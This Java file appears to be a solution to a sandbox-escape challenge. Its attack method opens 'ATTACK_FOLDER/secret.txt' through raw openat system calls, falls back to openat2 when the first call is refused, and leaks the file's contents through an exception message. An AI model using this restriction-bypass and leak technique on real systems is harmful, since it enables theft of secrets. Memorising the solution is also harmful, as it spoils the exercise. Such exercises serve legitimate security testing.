import java.lang.foreign.MemorySegment;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        long file;
        try {
            file = SystemCalls.must("openat", -100, SystemCalls.text("ATTACK_FOLDER/secret.txt"), 0, 0);
        } catch (Throwable refused) {
            try {
                MemorySegment how = SystemCalls.memory(24);
                file = SystemCalls.must("openat2", -100, SystemCalls.text("ATTACK_FOLDER/secret.txt"), how, 24);
            } catch (Throwable again) {
                throw new IllegalStateException(refused.getMessage() + " " + again.getMessage());
            }
        }
        MemorySegment bytes = SystemCalls.memory(100);
        SystemCalls.must("read", file, bytes, 99);
        throw new IllegalStateException(bytes.getString(0));
    }
}
